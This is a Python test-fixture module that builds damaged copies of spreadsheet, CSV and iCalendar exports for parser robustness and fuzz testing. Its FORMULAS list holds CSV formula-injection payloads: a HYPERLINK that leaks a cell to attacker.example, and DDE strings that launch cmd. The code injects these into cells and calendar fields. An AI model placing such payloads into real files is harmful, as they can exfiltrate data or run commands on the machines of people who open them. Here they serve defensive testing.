"""Malformed copies of real exports, built in memory: the corpus behind ``test_malformed.py``.

Every damage here is one people really send: a download cut short, a file re-saved in another
encoding, dates rewritten month-first by a US-locale machine, a header pasted twice, a column
deleted, a formula typed into a cell (files that belong to no format, such as a zip bomb or a text file
renamed ``.xlsx``, are in ``hostile_files.py``). Each function
takes a good :class:`Example` and returns :class:`Case` objects; nothing is written to disk
except by :func:`write_large_copy`, which writes where it is told.

Delimited text and workbooks are edited as rows of cells (``rows_of`` / ``with_rows``) so a
column-level damage keeps the file's container, delimiter and encoding; iCalendar and plain
documents are edited as lines.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

from diagnostic.errors import InputError
from diagnostic.ingest.rawfile import RawFile

LINE_FORMATS = frozenset({"icalendar", "document_text"})  # text that is not a table of cells
HEADER_SEARCH_ROWS = 20  # the header is the widest row among the first this many
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "+SUM(1)",
    "@cmd|' /C calc'!A0",
    "-2+3",
    '=cmd|" /C notepad"!A1',
)
SLASH_DATE = re.compile(r"\b(\d{1,2})([/.])(\d{1,2})\2(\d{2,4})\b")
ISO_DATE = re.compile(r"\b(\d{4})-(\d{2})-(\d{2})\b")
LOOKS_NUMERIC = re.compile(r"^[\s\d.,:/%£$+-]*$")
DATE_WORDS = ("date", "time", "start", "end", "received", "join", "leave", "submitted", "when", "period")
PERSON_WORDS = ("email", "address", "name", "upn", "sender", "recipient", "organiser", "organizer", "attendee", "person", "practitioner")


@dataclass(frozen=True)
class Example:
    """A good export of one format: the file name it arrived with and its exact bytes."""

    format: str
    name: str
    data: bytes

    @property
    def container(self) -> str:
        """``sheet`` (a workbook), ``binary`` (Word, PDF), ``table`` (delimited text) or ``lines`` (other text)."""
        raw = RawFile(self.name, self.data)
        if raw.is_xlsx:
            return "sheet"
        if raw.is_docx or raw.is_pdf:
            return "binary"
        return "lines" if self.format in LINE_FORMATS else "table"


@dataclass(frozen=True)
class Case:
    """One malformed file: what was done to it, the name it is loaded under, its bytes."""

    label: str
    name: str
    data: bytes

    def __repr__(self) -> str:  # pytest ids and failure messages: no megabytes of bytes
        return f"Case({self.label!r}, {len(self.data):,} bytes)"


# ---- text and rows --------------------------------------------------------------------------------


@dataclass(frozen=True)
class TextForm:
    """How a text file was encoded, so an edited copy goes back the same way."""

    codec: str
    bom: bytes
    newline: str
    delimiter: str


def decode(example: Example) -> tuple[str, TextForm]:
    raw = RawFile(example.name, example.data)
    codec, bom = raw.encoding
    text = example.data[bom:].decode(codec, errors="replace")
    newline = "\r\n" if "\r\n" in text[:4096] else "\n"
    return text, TextForm(codec, example.data[:bom], newline, raw.delimiter)


def encode(text: str, form: TextForm) -> bytes:
    return form.bom + text.encode(form.codec, errors="replace")


def rows_of(example: Example) -> list[list[object]]:
    """Cells of a delimited file or of a workbook's first sheet (datetimes stay datetimes)."""
    raw = RawFile(example.name, example.data)
    if raw.is_xlsx:
        return [list(r) for r in raw.sheet_rows()]
    text, form = decode(example)
    return [list(r) for r in csv.reader(io.StringIO(text, newline=""), delimiter=form.delimiter)]


def with_rows(example: Example, rows: list[list[object]]) -> bytes:
    """The example's container (workbook, or text in its delimiter and encoding) holding ``rows``."""
    if example.container == "sheet":
        return workbook(rows)
    _, form = decode(example)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=form.delimiter, lineterminator=form.newline)
    writer.writerows([["" if c is None else c for c in row] for row in rows])
    return encode(buffer.getvalue(), form)


def workbook(rows: Iterable[Iterable[object]]) -> bytes:
    """A one-sheet workbook holding ``rows``: the same rows always give the same bytes.

    openpyxl stamps the time of saving into the file; Hypothesis needs a mutation to give the
    same bytes every time it is replayed, so the stamp and the archive's dates are fixed.
    """
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Sheet1")
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return _dated(buffer.getvalue())


FIXED_TIME = datetime(2025, 1, 1)


W3C_TIME = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def _dated(xlsx: bytes) -> bytes:
    """The same archive with every entry, and the created and modified stamps, dated ``FIXED_TIME``."""
    out = io.BytesIO()
    stamp = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = W3C_TIME.sub(stamp, data)
            entry = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
            entry.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(entry, data)
    return out.getvalue()


def header_index(rows: list[list[object]]) -> int:
    """The header is the first of the widest rows near the top (Teams reports have a summary above it)."""
    top = rows[:HEADER_SEARCH_ROWS]
    widths = [sum(c not in (None, "") for c in r) for r in top]
    return widths.index(max(widths)) if widths else 0


def _header_text(cell: object) -> str:
    return str(cell or "").strip().lower()


def _text_cell(cell: object) -> bool:
    return isinstance(cell, str) and bool(cell.strip()) and not LOOKS_NUMERIC.match(cell)


# ---- damage ---------------------------------------------------------------------------------------


def truncations(example: Example) -> list[Case]:
    """Cut short: a few bytes in, mid-header, half-way, near the end, and inside a UTF-16 or UTF-8 character."""
    data = example.data
    cuts = {"3 bytes": 3, "mid-header": min(len(data) // 2, 40), "half": len(data) // 2, "90%": len(data) * 9 // 10}
    cases = [Case(f"truncated at {label}", example.name, data[:n]) for label, n in cuts.items() if 0 < n < len(data)]
    if example.container in ("table", "lines"):
        text, form = decode(example)
        wide = form if form.codec.startswith("utf-16") else TextForm("utf-16-le", b"\xff\xfe", form.newline, form.delimiter)
        utf16 = encode(text, wide)
        odd = len(utf16) * 2 // 3 | 1  # an odd byte count splits a UTF-16 code unit
        cases.append(Case("truncated mid-UTF-16 character", example.name, utf16[:odd]))
        cut = len(text) * 2 // 3
        utf8 = (text[:cut] + "é" + text[cut:]).encode("utf-8")
        middle = len(text[:cut].encode("utf-8")) + 1  # after the first of é's two bytes
        cases.append(Case("truncated mid-UTF-8 character", example.name, b"\xef\xbb\xbf" + utf8[:middle]))
        cases.append(Case("truncated mid-UTF-8 character, no BOM", example.name, utf8[:middle]))
    return cases


def reencodings(example: Example) -> list[Case]:
    """The same text re-saved as Windows-1252, UTF-16 (with and without BOM), UTF-8, and double-encoded UTF-8."""
    if example.container not in ("table", "lines"):
        return []
    text, form = decode(example)
    variants = {
        "cp1252": text.encode("cp1252", errors="replace"),
        "utf-8 with BOM": b"\xef\xbb\xbf" + text.encode("utf-8"),
        "utf-8 without BOM": text.encode("utf-8"),
        "utf-16 LE with BOM": b"\xff\xfe" + text.encode("utf-16-le"),
        "utf-16 BE without BOM": text.encode("utf-16-be"),
        "utf-8 read as cp1252 and saved again": text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"),
    }
    return [Case(f"re-encoded {label}", example.name, data) for label, data in variants.items() if data != example.data]


def month_first_text(text: str) -> str:
    """Every date rewritten month-first, as a US-locale Excel saves it: 13/01/2025 and 2025-01-13 become 01/13/2025."""
    text = SLASH_DATE.sub(lambda m: f"{m[3]}{m[2]}{m[1]}{m[2]}{m[4]}", text)
    return ISO_DATE.sub(lambda m: f"{m[2]}/{m[3]}/{m[1]}", text)


def month_first(example: Example) -> list[Case]:
    """Dates rewritten month-first (a workbook's real dates become month-first text).

    iCalendar is left alone: the standard fixes its dates as YYYYMMDD, so no tool writes them
    the other way round.
    """
    if example.container not in ("table", "sheet"):
        return []
    if example.container == "sheet":

        def swap(cell: object) -> object:
            if isinstance(cell, datetime):
                return cell.strftime("%m/%d/%Y %H:%M:%S")
            if isinstance(cell, date):
                return cell.strftime("%m/%d/%Y")
            return month_first_text(cell) if isinstance(cell, str) else cell

        data = workbook([[swap(c) for c in row] for row in rows_of(example)])
    else:
        text, form = decode(example)
        data = encode(month_first_text(text), form)
    return [Case("dates month-first", example.name, data)] if data != example.data else []


def decidable_dates(example: Example) -> bool:
    """Whether some date in the file has a day above 12, so day-first and month-first cannot be confused."""
    if example.container == "sheet":
        return any(isinstance(c, date) and c.day > 12 for row in rows_of(example) for c in row)
    if example.container != "table":
        return False
    text, _ = decode(example)
    return any(int(m[1]) > 12 for m in SLASH_DATE.finditer(text)) or any(int(m[3]) > 12 for m in ISO_DATE.finditer(text))


def _table_cases(example: Example, edits: dict[str, Callable[[list[list[object]], int], list[list[object]]]]) -> list[Case]:
    rows = rows_of(example)
    if not rows:
        return []
    h = header_index(rows)
    return [Case(label, example.name, with_rows(example, edit([list(r) for r in rows], h))) for label, edit in edits.items()]


def duplicated_headers(example: Example) -> list[Case]:
    """A header name used twice, every column doubled, and the header row pasted again below itself."""
    if example.container in ("table", "sheet"):
        return _table_cases(
            example,
            {
                "second header renamed to the first": lambda rows, h: [
                    *rows[:h],
                    [rows[h][0], *rows[h][:1], *rows[h][2:]] if len(rows[h]) > 1 else rows[h] * 2,
                    *rows[h + 1 :],
                ],
                "every column doubled": lambda rows, h: [r + r if i >= h else r for i, r in enumerate(rows)],
                "header row repeated": lambda rows, h: [*rows[: h + 1], rows[h], *rows[h + 1 :]],
            },
        )
    if example.container == "lines":
        text, form = decode(example)
        doubled = re.sub(r"(?m)^((?:DTSTART|SUMMARY|ORGANIZER|UID)[^\r\n]*\r?\n)", r"\1\1", text)
        header = text.splitlines(keepends=True)
        return [
            Case("properties doubled", example.name, encode(doubled, form)),
            Case("first line repeated", example.name, encode("".join(header[:1] + header), form)),
        ]
    return []


def missing_headers(example: Example) -> list[Case]:
    """A needed column deleted (the first, the first date-like, the first person-like) and no header row at all."""
    if example.container in ("table", "sheet"):
        rows = rows_of(example)
        if not rows:
            return []
        header = [_header_text(c) for c in rows[header_index(rows)]]
        wanted = {"first column": 0}
        for label, words in (("a date column", DATE_WORDS), ("a person column", PERSON_WORDS)):
            found = next((i for i, c in enumerate(header) if any(w in c for w in words)), None)
            if found is not None and found not in wanted.values():
                wanted[label] = found
        edits: dict[str, Callable] = {
            f"{label} removed": (lambda rows, h, i=i: [r if n < h else r[:i] + r[i + 1 :] for n, r in enumerate(rows)])
            for label, i in wanted.items()
        }
        edits["header row removed"] = lambda rows, h: rows[:h] + rows[h + 1 :]
        return _table_cases(example, edits)
    if example.container == "lines":
        text, form = decode(example)
        no_start = re.sub(r"(?m)^DTSTART[^\r\n]*\r?\n", "", text)
        no_begin = re.sub(r"(?m)^BEGIN:VCALENDAR\r?\n", "", text)
        first_dropped = "".join(text.splitlines(keepends=True)[1:])
        cases = [Case("first line removed", example.name, encode(first_dropped, form))]
        cases += [
            Case(label, example.name, encode(t, form))
            for label, t in (("DTSTART removed", no_start), ("BEGIN:VCALENDAR removed", no_begin))
            if t != text
        ]
        return cases
    return []


def with_formulas(example: Example, data_rows: int = 3) -> list[Case]:
    """Spreadsheet formulas typed into the text cells of the first data rows (and into the header's last cell)."""
    if example.container in ("table", "sheet"):
        payload = iter(FORMULAS * 1000)

        def inject(rows: list[list[object]], h: int) -> list[list[object]]:
            for row in rows[h + 1 : h + 1 + data_rows]:
                for i, cell in enumerate(row):
                    if _text_cell(cell):
                        row[i] = next(payload)
            return rows

        def header_formula(rows: list[list[object]], h: int) -> list[list[object]]:
            rows[h] = [*rows[h][:-1], FORMULAS[0]] if rows[h] else rows[h]
            return rows

        return _table_cases(example, {"formulas in text cells": inject, "formula as a header": header_formula})
    if example.container == "lines":
        text, form = decode(example)
        swapped = re.sub(r"(?m)^(SUMMARY|DESCRIPTION|LOCATION)(;[^:\r\n]*)?:[^\r\n]*", lambda m: f"{m[1]}:{FORMULAS[0]}", text)
        swapped = re.sub(r"CN=[^;:\r\n]+", f'CN="{FORMULAS[2]}"', swapped)
        if swapped == text:  # a plain document: formulas at the start of its lines
            swapped = "".join(f"{FORMULAS[i % len(FORMULAS)]} {line}" for i, line in enumerate(text.splitlines(keepends=True)))
        return [Case("formulas in text fields", example.name, encode(swapped, form))]
    return []


DAMAGE: dict[str, Callable[[Example], list[Case]]] = {
    "truncated": truncations,
    "wrong encoding": reencodings,
    "day and month swapped": month_first,
    "duplicated headers": duplicated_headers,
    "missing headers": missing_headers,
    "formulas": with_formulas,
}


# The containers each damage applies to (a Word file has no encoding to change or columns to lose).
APPLIES_TO: dict[str, frozenset[str]] = {
    "truncated": frozenset({"table", "sheet", "lines", "binary"}),
    "wrong encoding": frozenset({"table", "lines"}),
    "day and month swapped": frozenset({"table", "sheet"}),
    "duplicated headers": frozenset({"table", "sheet", "lines"}),
    "missing headers": frozenset({"table", "sheet", "lines"}),
    "formulas": frozenset({"table", "sheet", "lines"}),
}


def corpus(examples: Iterable[Example]) -> list[tuple[str, Case]]:
    """Every damage applied to every example: (format id, case)."""
    return [(ex.format, case) for ex in examples for damage in DAMAGE.values() for case in damage(ex)]


# ---- a very large file, cheaply -------------------------------------------------------------------


def write_large_copy(example: Example, path: Path, size: int) -> int:
    """A valid file of about ``size`` bytes: the example's header, then its data rows repeated.

    Rows are written in blocks of about 1 MB, so making the file costs disk, not memory.
    Returns the bytes written.
    """
    text, form = decode(example)
    lines = text.splitlines(keepends=True)
    header, body = lines[0], "".join(lines[1:])
    block = (body * max(1, (1024**2) // max(1, len(body.encode())))).encode(form.codec, errors="replace")
    with path.open("wb") as fh:
        fh.write(encode(header, form))  # the BOM, once
        written = fh.tell()
        while written < size:
            fh.write(block)
            written += len(block)
    return written


# ---- mutations for fuzzing ------------------------------------------------------------------------


def flip_bytes(data: bytes, flips: Iterable[tuple[int, int]]) -> bytes:
    """Bytes overwritten at (position, value) pairs; positions wrap round the file."""
    out = bytearray(data)
    for position, value in flips:
        out[position % len(out)] = value
    return bytes(out)


def drop_rows(example: Example, picks: Iterable[int]) -> bytes:
    """Rows (or lines) removed at the given positions, which wrap round the file."""
    if example.container == "binary":
        return example.data
    if example.container == "lines":
        text, form = decode(example)
        lines = text.splitlines(keepends=True)
        gone = {p % len(lines) for p in picks} if lines else set()
        return encode("".join(line for i, line in enumerate(lines) if i not in gone), form)
    rows = rows_of(example)
    gone = {p % len(rows) for p in picks} if rows else set()
    return with_rows(example, [r for i, r in enumerate(rows) if i not in gone])


def shuffle_columns(example: Example, order: list[int]) -> bytes:
    """Every row's cells reordered by ``order`` (a permutation of the widest row's positions)."""
    rows = rows_of(example)
    width = max(map(len, rows), default=0)
    padded = [list(r) + [None] * (width - len(r)) for r in rows]
    return with_rows(example, [[r[i] for i in order] for r in padded])


def width(example: Example) -> int:
    """Cells in the widest row (0 for files that are not tables)."""
    return max(map(len, rows_of(example)), default=0) if example.container in ("table", "sheet") else 0


def line_count(example: Example, data: bytes) -> int:
    """Rows a user could be pointed at: lines of a text file or rows of a workbook (0 when unknown)."""
    candidate = Example(example.format, example.name, data)
    try:
        if candidate.container == "sheet":
            return len(rows_of(candidate))
        if candidate.container == "binary":
            return 0
    except InputError:  # a damaged workbook: its issue names no row
        return 0
    text, _ = decode(candidate)
    return len(text.splitlines()) + 1  # splitlines knows every line break a parser might count
